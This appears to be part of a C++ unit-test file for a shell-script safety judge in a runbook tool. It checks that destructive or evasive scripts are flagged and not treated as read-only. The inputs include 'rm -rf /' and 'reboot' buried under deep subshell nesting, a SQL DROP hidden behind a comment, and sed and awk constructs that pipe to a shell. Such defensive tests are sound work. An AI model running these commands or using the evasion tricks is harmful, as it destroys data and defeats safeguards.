      {"echo hi | http :8080/health", nullptr},
      {"kubectl --token $T exec pod -- ls", nullptr},
  };
  for (const auto& c : kTricks) {
    auto j = judge(c.script);
    EXPECT_FALSE(j.read_only()) << c.script;
    if (c.part) {
      EXPECT_TRUE(any_contains(j.destructive, c.part))
          << c.script << "\n  wanted: " << c.part << listed(j.destructive);
    }
  }
}

TEST(ShellJudge, FailsClosedOnDeepNestingWithoutCrashing) {
  std::string deep = "echo ";
  for (int i = 0; i < 260; ++i) deep += "$(";
  deep += "reboot";
  for (int i = 0; i < 260; ++i) deep += ")";
  auto j = judge(deep);
  EXPECT_FALSE(j.read_only());
  EXPECT_NE(j.unproven.find("deeper than 200"), std::string::npos) << j.unproven;
  EXPECT_TRUE(any_contains(j.destructive, "deeper than 200")) << listed(j.destructive);

  std::string arith = "echo $((" + std::string(3000, '(') + "1" + std::string(3000, ')') + "))";
  auto k = judge(arith);
  EXPECT_FALSE(k.read_only());
  EXPECT_FALSE(k.destructive.empty());

  // A script naming opsdeck's own placeholders gets no special meaning from them.
  auto named = judge("echo \"${OPSDECK_UNSEEN_1}$(date)\"");
  EXPECT_EQ(named.commands.size(), 2u) << listed(named.commands);

  std::string ok = "echo ";
  for (int i = 0; i < 20; ++i) ok += "$(echo ";
  ok += "date";
  for (int i = 0; i < 20; ++i) ok += ")";
  EXPECT_TRUE(judge(ok).read_only()) << judge(ok).unproven;
}

TEST(ShellJudge, RawTextPatternsStillJudgeWholeBlocks) {
  const DestructivePatterns patterns;
  EXPECT_FALSE(patterns.reasons("rm -rf /tmp/x").empty());
  EXPECT_TRUE(patterns.reasons("ls -la").empty());
  ShellCommand c;
  c.words = {
      {"psql", "psql"}, {"-c", "-c"}, {"drop -- comment\ntable x", "drop -- comment\ntable x"}};
  auto r = patterns.reasons(c);
  EXPECT_NE(std::find(r.begin(), r.end(), "SQL DROP"), r.end());
}

TEST(ShellJudge, SedAndAwkScriptsAreReadForCommandsAndWrites) {
  EXPECT_TRUE(sed_script_effects("s/a/b/g; /x/d; 1,5p").understood);
  EXPECT_FALSE(sed_script_effects("s/a/b/g; /x/d; 1,5p").runs_commands);
  EXPECT_TRUE(sed_script_effects("s/[/]/x/e").runs_commands);
  EXPECT_TRUE(sed_script_effects("/x/{\n  w out.txt\n}").writes_files);
  EXPECT_FALSE(sed_script_effects("w /dev/stdout").writes_files);
  EXPECT_FALSE(sed_script_effects("k").understood);
  EXPECT_TRUE(awk_program_effects("{print $1, $2 > 3}").writes_files);  // a file named 3
  EXPECT_TRUE(awk_program_effects("/error|warn/ {print $1 > \"out\"}").writes_files);
  EXPECT_FALSE(awk_program_effects("/error|warn/ { if ($3 > 5) print $1 }").writes_files);
  EXPECT_FALSE(awk_program_effects("/error|warn/ { print $1 }").runs_commands);
  EXPECT_TRUE(awk_program_effects("{ print i++ / 2 | \"sh\"; x = 1 / 1 }").runs_commands);
  EXPECT_TRUE(awk_program_effects("{ \"date\" | getline d }").runs_commands);
  EXPECT_FALSE(awk_program_effects("{ print > \"/dev/stderr\" }").writes_files);
}

}  // namespace
}  // namespace opsdeck::app::runbook

namespace opsdeck::app::runbook {
namespace {

// A script nested thousands of levels deep (hostile or generated) is never judged by
// recursing that deep: it is unproven, with the reason, and nothing crashes.
TEST(ShellJudgeHostile, ThousandsOfNestedSubshellsAreUnprovenNotACrash) {
  std::string script = std::string(3000, '(') + "rm -rf /" + std::string(3000, ')') + "\n";
  DestructivePatterns patterns;
  ShellJudgement j = judge_shell(script, {}, patterns);
  EXPECT_FALSE(j.read_only());
  EXPECT_FALSE(j.unproven.empty());
}

}  // namespace
}  // namespace opsdeck::app::runbook
